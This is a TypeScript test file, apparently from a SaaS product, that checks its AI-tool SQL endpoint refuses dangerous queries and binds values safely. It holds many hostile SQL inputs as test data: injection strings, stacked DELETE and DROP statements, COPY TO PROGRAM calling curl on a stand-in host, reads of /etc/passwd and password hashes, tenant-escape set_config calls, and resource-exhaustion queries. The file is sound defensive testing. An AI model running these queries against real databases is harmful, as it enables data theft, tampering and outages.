import { ai as contract } from '@chairline/contract';
import { beforeAll, describe, expect, test } from 'vitest';
import { useAiWorld } from '../../../testing/use-ai.ts';
import { createContact, createOffice, createUser, type TestOffice } from '../../../testing/factory.ts';
import { dumpOffice } from '../../../testing/dump-office.ts';
import { runQuery } from './run-query.ts';

/** What a tool's SQL may not do, each in several wordings (issue 15, section 6): refused or cut off, and nothing changed. */

const world = useAiWorld();
let other: TestOffice;

beforeAll(async () => {
  other = await createOffice(world.app, { name: 'Elsewhere' });
  await createContact(world.app, world.office, { firstName: 'Ours' });
  await createContact(world.app, other, { firstName: 'Theirs' });
});

const refusals: Record<string, { words: RegExp; queries: string[] }> = {
  'comments that hide something': {
    words: /comment|one SELECT/,
    queries: [
      'SELECT 1 -- FROM contacts',
      'SELECT 1 /* ; DROP TABLE contacts */ FROM contacts',
      'SELECT 1 /*/* nested */*/',
      'SELECT 1; -- \n DELETE FROM contacts',
    ],
  },
  'a second statement': {
    words: /one SELECT|cannot be read/,
    queries: [
      'SELECT 1; SELECT 2',
      'SELECT 1; COMMIT; DELETE FROM contacts',
      "SELECT 1;;; SET app.client_id = '1'",
      'SELECT 1) tool; DELETE FROM contacts; SELECT (1',
    ],
  },
  'writing under WITH': {
    words: /only reads: (INSERT|UPDATE|DELETE|MERGE)/,
    queries: [
      "WITH x AS (INSERT INTO contacts (first_name) VALUES ('a') RETURNING 1) SELECT * FROM x",
      'WITH x AS (UPDATE contacts SET first_name = NULL RETURNING 1) SELECT 1',
      'WITH a AS (SELECT 1), b AS (DELETE FROM contacts RETURNING *) SELECT * FROM a',
      'SELECT * FROM (WITH x AS (MERGE INTO contacts USING office ON true WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1 FROM x) y',
    ],
  },
  'statements that only look like reading': {
    words: /only reads/,
    queries: [
      'SELECT * FROM contacts FOR UPDATE',
      'SELECT * FROM contacts FOR SHARE SKIP LOCKED',
      'SELECT * INTO stolen FROM contacts',
      'SELECT * INTO TEMP stolen FROM contacts',
      'EXPLAIN ANALYZE SELECT 1',
      'CREATE TABLE stolen AS SELECT * FROM contacts',
    ],
  },
  COPY: {
    words: /only reads/,
    queries: [
      "COPY contacts TO '/tmp/contacts'",
      "COPY (SELECT * FROM contacts) TO PROGRAM 'curl example.test'",
      "cOpY contacts FROM '/etc/passwd'",
    ],
  },
  'leaving the office': {
    words: /cannot call|only reads|one SELECT/,
    queries: [
      "SELECT set_config('app.client_id', '1', true)",
      `SELECT "set_config"('app.client_id', '1', false), * FROM contacts`,
      "SELECT pg_catalog.set_config('app.client_id', '1', true) FROM contacts",
      `SELECT U&"\\0073et_config"('app.client_id', '1', true)`,
      "SET app.client_id = '1'",
      'RESET ROLE',
      "SELECT * FROM contacts WHERE current_setting('app.client_id') = '1'",
    ],
  },
  sleeping: {
    words: /cannot call|no column|has no column/,
    queries: [
      'SELECT pg_sleep(60)',
      'SELECT count(*) FROM contacts WHERE (SELECT pg_catalog.pg_sleep(60)) IS NULL',
      "SELECT PG_SLEEP_FOR('1 minute')",
      "SELECT 1 FROM contacts ORDER BY pg_sleep_until(now() + interval '1 minute')",
      'SELECT g.pg_sleep FROM generate_series(60, 61) AS g (x)',
    ],
  },
  'reaching other servers and files': {
    words: /cannot call|cannot read|cannot stand/,
    queries: [
      "SELECT * FROM dblink('host=example.test', 'SELECT 1') AS t (a integer)",
      "SELECT dblink_connect('x', 'host=example.test')",
      "SELECT pg_read_file('/etc/passwd')",
      "SELECT lo_import('/etc/passwd')",
      'SELECT lo_unlink(1)',
      "SELECT pg_ls_dir('.')",
    ],
  },
  'running SQL that is text': {
    words: /cannot call/,
    queries: [
      "SELECT query_to_xml('DELETE FROM contacts', true, true, '')",
      "SELECT table_to_xml('contacts', true, true, '')",
      "SELECT * FROM ts_stat('SELECT 1') AS t (a)",
      "SELECT app_enqueue('x', '{}')",
    ],
  },
  'reading the catalogue': {
    words: /cannot read|cannot use the type/,
    queries: [
      'SELECT * FROM pg_authid',
      'SELECT * FROM pg_catalog.pg_class',
      'SELECT * FROM information_schema.tables',
      'SELECT usename FROM pg_stat_activity',
      "SELECT 'contacts'::regclass",
    ],
  },
  'tables behind the views': {
    words: /cannot read/,
    queries: [
      'SELECT * FROM public.contacts',
      'SELECT password_hash FROM public.users',
      'SELECT * FROM sessions',
      'SELECT * FROM chairline.ai.contacts',
      'TABLE audit_log',
      'SELECT * FROM graphile_worker.jobs',
    ],
  },
  recursion: {
    words: /RECURSIVE/,
    queries: [
      'WITH RECURSIVE a AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM a) SELECT * FROM a',
      'SELECT * FROM (WITH RECURSIVE a AS (SELECT 1 UNION ALL SELECT 1 FROM a) SELECT 1) b',
      'SELECT 1 WHERE EXISTS (WITH RECURSIVE a (n) AS (VALUES (1) UNION SELECT n FROM a) SELECT n FROM a)',
    ],
  },
  'what fills the memory by itself': {
    words: /cannot call/,
    queries: [
      "SELECT repeat('x', 1000000000)",
      "SELECT lpad('x', 1000000000)",
      "SELECT format('%1000000000s', 'x')",
    ],
  },
  'what is too deep or too long to understand': {
    words: /nested too deeply|too long|cannot be read/,
    queries: [
      `SELECT ${'not '.repeat(4_900)}true`,
      `SELECT ${'1 + '.repeat(4_900)}1`,
      `SELECT ${'('.repeat(9_000)}1`,
    ],
  },
};

describe.each(Object.entries(refusals))('%s', (_name, { words, queries }) => {
  test.each(queries)('%s', async (query) => {
    const before = await dumpOffice(world.app, other.id);
    for (const path of ['/ai/validateSqlQuery', '/ai/updateAiTool', '/ai/tryQuery'] as const) {
      const answer = await world.admin.call('POST', path, {
        query,
        sql_query: query,
        run_location: 'DSS',
        client_id: world.office.id,
        name: 'bad',
        description: 'bad',
        agent: 'AI FrontDesk',
      });
      if (path === '/ai/validateSqlQuery') expect(answer.json()).toMatchObject({ isValid: false });
      else expect(answer.statusCode).toBe(400);
      expect(answer.body).toMatch(words);
    }
    expect(await dumpOffice(world.app, other.id)).toEqual(before);
  });
});

describe('cut off', () => {
  const slow = [
    'SELECT count(*) FROM generate_series(1, 100000000) AS a (n) CROSS JOIN generate_series(1, 1000) AS b (m)',
    'SELECT max(a.n + b.n) AS most FROM generate_series(1, 10000000) AS a (n) JOIN generate_series(1, 10000000) AS b (n) ON a.n % 7 = b.n % 11',
    "SELECT regexp_replace(string_agg('a', ''), '(a*)*b', '') AS text FROM generate_series(1, 20000000) AS a (n)",
  ];
  test.each(slow)('after five seconds: %s', async (query) => {
    const answer = await world.tryQuery(query);
    expect([answer.statusCode, answer.body]).toEqual([
      400,
      expect.stringMatching(/5 seconds|memory or disk/),
    ]);
    // The connection that was stopped is one of many, and whole.
    expect((await world.tryQuery('SELECT 1 AS one')).json<contract.ToolRun>().rows).toEqual([[1]]);
  });

  test.each([
    'SELECT n FROM generate_series(1, 1000000) AS a (n)',
    'SELECT n, n AS again FROM generate_series(1, 1000000) AS a (n) ORDER BY n',
    'SELECT 1 AS n FROM generate_series(1, 201) AS a (n) UNION ALL SELECT 2',
  ])('after 200 rows: %s', async (query) => {
    const run = (await world.tryQuery(query)).json<contract.ToolRun>();
    expect([run.rows.length, run.cut]).toEqual([contract.toolLimits.rows, 'rows']);
  });

  test.each([
    "SELECT string_agg('0123456789', '') AS text FROM generate_series(1, 20000) AS a (n)",
    "SELECT b.m, string_agg('0123456789', '') AS text FROM generate_series(1, 1000) AS a (n) CROSS JOIN generate_series(1, 20) AS b (m) GROUP BY b.m",
    'SELECT array_agg(n) AS many FROM generate_series(1, 100000) AS a (n)',
  ])('after 64 kB: %s', async (query) => {
    const answer = await world.tryQuery(query);
    expect(answer.json<contract.ToolRun>().cut).toBe('bytes');
    expect(Buffer.byteLength(answer.body)).toBeLessThan(contract.toolLimits.bytes * 2);
  });
});

describe('values are bound, never pasted', () => {
  const named = (datatype: contract.Datatype) => [{ name: 'given', datatype, description: '' }];
  test.each([
    "x' OR '1' = '1",
    "'; DELETE FROM contacts; --",
    "x'::text) IS NULL OR true) UNION SELECT password_hash FROM public.users --",
  ])('a text that is SQL is a text: %s', async (given) => {
    const run = await world.tryQuery(
      'SELECT :given AS back, count(*) AS found FROM contacts WHERE first_name = :given',
      named('string'),
      { given },
    );
    expect(run.json<contract.ToolRun>().rows).toEqual([[given, 0]]);
  });

  test.each([
    ['integer', '1; DROP TABLE contacts'],
    ['number', '1 OR 1=1'],
    ['boolean', 'maybe'],
  ] as const)('a value that is no %s is refused', async (datatype, given) => {
    const answer = await world.tryQuery('SELECT :given AS back', named(datatype), { given });
    expect([answer.statusCode, answer.body]).toEqual([400, expect.stringContaining('A value is no number')]);
  });

  test('each datatype arrives as itself; one that is not given is nothing', async () => {
    const back = async (datatype: contract.Datatype, given?: unknown) =>
      (
        await world.tryQuery('SELECT :given AS back', named(datatype), given === undefined ? {} : { given })
      ).json<contract.ToolRun>().rows[0]![0];
    expect(await back('integer', 7)).toBe(7);
    expect(await back('number', '7.5')).toBe(7.5);
    expect(await back('boolean', true)).toBe(true);
    expect(await back('array', ['a', 'b,c'])).toBe('["a","b,c"]');
    expect(await back('string')).toBeNull();
  });
});

describe('one office, without what is private', () => {
  test.each([
    'SELECT first_name FROM contacts',
    'SELECT c.first_name FROM contacts c CROSS JOIN office o WHERE true OR o.name IS NULL',
    'SELECT first_name FROM contacts UNION SELECT first_name FROM ai.contacts',
  ])('sees its own rows alone: %s', async (query) => {
    const run = (await world.tryQuery(query)).json<contract.ToolRun>();
    expect(run.rows).toEqual([['Ours']]);
  });

  test('a secured conversation is there for whoever takes part, and for nobody else', async () => {
    const { app, office } = world;
    const insider = await createUser(app, office);
    const outsider = await createUser(app, office);
    const { rows } = await app.owner.query<{ id: number }>(
      `INSERT INTO conversations (client_id, convo_name, kind, secured, owner_id, activity_at, created_at)
       VALUES ($1, 'Pay rise', 'general', true, $2, now(), now()) RETURNING convo_id AS id`,
      [office.id, insider.id],
    );
    await app.owner.query(
      `INSERT INTO convo_participants (client_id, convo_id, user_id, joined_at) VALUES ($1, $2, $3, now())`,
      [office.id, rows[0]!.id, insider.id],
    );
    await app.owner.query(
      `INSERT INTO convo_messages (client_id, convo_id, user_id, body, at, position) VALUES ($1, $2, $3, 'secret', now(), 0)`,
      [office.id, rows[0]!.id, insider.id],
    );
    const seen = async (reader?: number) => {
      const scope = { office: office.id, ...(reader === undefined ? {} : { reader }) };
      const ask = (query: string) => runQuery(app.platform, scope, { query, parameters: [] }, {});
      const names = await ask('SELECT convo_name FROM conversations');
      const words = await ask('SELECT body FROM conversation_messages');
      return [names.rows.flat(), words.rows.flat()];
    };
    expect(await seen(insider.id)).toEqual([['Pay rise'], ['secret']]);
    expect(await seen(outsider.id)).toEqual([[], []]);
    expect(await seen()).toEqual([[], []]);
  });
});

describe('numbers come as they are', () => {
  test('digit by digit where JavaScript would change them', async () => {
    const run = await world.tryQuery(
      `SELECT 9007199254740993::int8 AS a, 12345678901234567890.12::numeric AS b, 1e400::numeric AS c, 12.50 AS d, 0.1 + 0.2 AS e,
         0.1::float8 + 0.2::float8 AS f, 42 AS g, array_agg(9007199254740993) AS h, 'NaN'::numeric AS i, true AS j, -0.5 AS k, 1e-400::numeric AS l`,
    );
    expect(run.json<contract.ToolRun>().rows).toEqual([
      [
        '9007199254740993',
        '12345678901234567890.12',
        `1${'0'.repeat(400)}`,
        12.5,
        0.3,
        0.1 + 0.2,
        42,
        '[9007199254740993]',
        'NaN',
        true,
        -0.5,
        `0.${'0'.repeat(399)}1`,
      ],
    ]);
  });
});

describe('a value that would take long is refused before it is made', () => {
  // Nothing interrupts one step of one row: without its own limits the database went on for 9 to 15 seconds.
  const nested = (times: number) =>
    Array.from({ length: times }).reduce<string>(
      (text) => `replace(${text}, 'a', 'aaaaaaaaaa')`,
      "'aaaaaaaaaa'",
    );
  const product = (times: number) =>
    Array.from({ length: times }).reduce<string>((text) => `(${text} * ${text})`, '9'.repeat(900));
  test.each([
    `SELECT length(${nested(9)}) AS n`,
    `SELECT ${product(4)} AS n`,
    "SELECT ('9' || substr(string_agg('9', ''), 1, 100000))::numeric * 2 AS n FROM generate_series(1, 100000) AS g (n)",
    'SELECT 9.9 ^ 99999.5 AS n',
    'SELECT power(1.0000001, 900000000.5) AS n',
    "SELECT strpos(a, b) AS n FROM (SELECT string_agg('a', '') AS a, string_agg('a', '') || 'b' AS b FROM generate_series(1, 100000) AS g (n)) t",
    "SELECT position(b IN a) AS n FROM (SELECT string_agg('a', '') AS a, string_agg('a', '') || 'b' AS b FROM generate_series(1, 100000) AS g (n)) t",
    "SELECT a LIKE b AS n FROM (SELECT string_agg('a', '') AS a, string_agg('%a', '') || 'b' AS b FROM generate_series(1, 100000) AS g (n)) t",
    "SELECT length(string_agg('0123456789', '')) AS n FROM generate_series(1, 200000) AS g (n)",
    `WITH a AS (SELECT string_agg('a', '') AS t FROM generate_series(1, 500000) AS g (n)) SELECT length(t || t || t) AS n FROM a`,
    'SELECT cardinality(array_agg(n)) AS n FROM generate_series(1, 500000) AS g (n)',
    `SELECT cardinality(ARRAY(SELECT t || n FROM (SELECT '${'0123456789'.repeat(100)}' AS t, n FROM generate_series(1, 100000000) AS g (n)) s)) AS c`,
    'SELECT cardinality(ARRAY(SELECT n FROM generate_series(1, 500000) AS g (n) UNION SELECT n FROM generate_series(7, 500000) AS h (n) ORDER BY 1)) AS n',
    ...[
      'ltrim(a, b)',
      'rtrim(a, b)',
      'btrim(a, b)',
      'trim(LEADING b FROM a)',
      'trim(a, b)',
      "regexp_replace(a, 'a', a, 1, 0)",
    ].map(
      (call) =>
        `SELECT length(${call}) AS n FROM (SELECT string_agg('aaaaaaaaaa', '') AS a, string_agg('bbbbbbbbbb', '') || 'a' AS b FROM generate_series(1, 50000) AS g (n)) t`,
    ),
    ...['&&', '@>', '<@'].map(
      (sign) =>
        `SELECT a ${sign} b AS n FROM (SELECT array_agg(n) AS a, array_agg(-n) AS b FROM generate_series(1, 100000) AS g (n)) t`,
    ),
  ])('%s', async (query) => {
    const answer = await world.tryQuery(query);
    expect([answer.statusCode, answer.body]).toEqual([
      400,
      // On a slow machine its time is over before its room is.
      expect.stringMatching(/more memory or disk|too long|longer than 5 seconds/),
    ]);
  });

  // Whatever becomes of the value: nothing looks at these once they are whole.
  test.each([
    "string_agg(t, '')",
    "string_agg('a', t)",
    "string_agg(DISTINCT t || n, ',')",
    'array_agg(t)',
    'array_agg(t ORDER BY n DESC) FILTER (WHERE n > 1)',
  ])('%s is stopped while it grows', async (gathered) => {
    const answer = await world.tryQuery(
      `SELECT CASE WHEN count(*) > 0 THEN 1 ELSE num_nulls(${gathered}) END AS n
       FROM (SELECT n, '${'0123456789'.repeat(100)}' AS t FROM generate_series(1, 20000) AS g (n)) AS s`,
    );
    expect([answer.statusCode, answer.body]).toEqual([400, expect.stringMatching(/more memory or disk/)]);
  });

  test.each([
    "ai.regexp_replace(repeat('a', 1000000), 'a', repeat('b', 1000), 'g')",
    "ai.array_to_string(array_fill('a'::text, ARRAY[100000]), repeat('b', 1000))",
    "ai.array_to_string(array_fill(NULL::text, ARRAY[100000]), '', repeat('b', 1000))",
  ])('%s is refused before it begins', async (call) => {
    await expect(world.app.owner.query(`SELECT ${call}`)).rejects.toMatchObject({ code: '54000' });
  });

  test('what is gathered may be sorted, distinct, filtered and in windows', async () => {
    const run = await world.tryQuery(
      `SELECT string_agg(DISTINCT t, ', ' ORDER BY t DESC) AS a, string_agg(t, '-' ORDER BY n) AS b,
         array_agg(DISTINCT n % 2) AS c, string_agg(t, '') FILTER (WHERE n > 1) AS d,
         array_to_string(array_agg(n ORDER BY n), '+') AS e, max(w) AS f, regexp_replace('a-b', '-', ' ') AS g,
         array_to_string(array_agg(NULL::text), ',', 'none') AS h,
         array_to_string(ARRAY(SELECT DISTINCT m FROM (VALUES (2), (1), (2)) AS k (m) WHERE m < max(n) ORDER BY m DESC), '+') AS i,
         array_agg(n) && ARRAY[3] AS j, ARRAY[1, 2] <@ array_agg(n) AS k, trim(BOTH '-' FROM '--a-') || ltrim(' b') AS l,
         regexp_replace('a-b-c', '-', '+', 1, 2) AS m
       FROM (SELECT n, t, string_agg(t, '') OVER (ORDER BY n) AS w FROM (VALUES (1, 'x'), (2, 'y'), (3, 'x')) AS v (n, t)) AS s`,
    );
    expect([run.statusCode, run.json<contract.ToolRun>().rows]).toEqual([
      200,
      [
        [
          'y, x',
          'x-y-x',
          '[0,1]',
          'yx',
          '1+2+3',
          'xyx',
          'a b',
          'none,none,none',
          '2+1',
          true,
          true,
          'ab',
          'a-b+c',
        ],
      ],
    ]);
  });

  test('what a desk asks is far from it', async () => {
    const run = await world.tryQuery(
      `SELECT 2 ^ 10 AS power, round(1234.567 * 1.08, 2) AS money, replace('a-b-c', '-', '') AS plain, 'abc' LIKE '%b%' AS is_like,
         'abc' NOT ILIKE '%B%' AS is_not_ilike, split_part('a b', ' ', 2) AS part, position('b' IN 'abc') AS at, mod(7, 3) AS rest,
         1.05 ^ 12 > 1.79 AS grown, string_to_array('a,b', ',') AS list, concat('a', 1, NULL) AS joined`,
    );
    expect([run.statusCode, run.body]).toEqual([200, expect.anything()]);
    expect(run.json<contract.ToolRun>().rows).toEqual([
      [1024, 1333.33, 'abc', true, false, 'b', 2, 1, true, '["a","b"]', 'a1'],
    ]);
  });
});

describe('no failure quotes a row', () => {
  test.each([
    "SELECT CAST(string_agg(first_name, ',') AS integer) AS n FROM contacts",
    'SELECT first_name::date AS day FROM contacts',
    "SELECT regexp_replace('a', '(' || first_name, '') AS n FROM contacts",
    'SELECT (first_name || chr)::numeric AS n FROM contacts, (SELECT 1 AS chr) x',
    'SELECT 1 / (length(first_name) - 4) AS n FROM contacts',
  ])('%s', async (query) => {
    const answer = await world.tryQuery(query);
    expect(answer.statusCode).toBe(400);
    expect(answer.body).not.toContain('Ours');
  });
});

test('a parameter that is called as something of JavaScript’s own is one like others', async () => {
  const names = ['constructor', 'tostring', 'hasownproperty'];
  const run = await world.tryQuery(
    `SELECT ${names.map((name) => `:${name} AS ${name}`).join(', ')}`,
    names.map((name) => ({ name, datatype: 'string', description: '' })),
    { tostring: 'given' },
  );
  expect(run.json<contract.ToolRun>().rows).toEqual([[null, 'given', null]]);
});
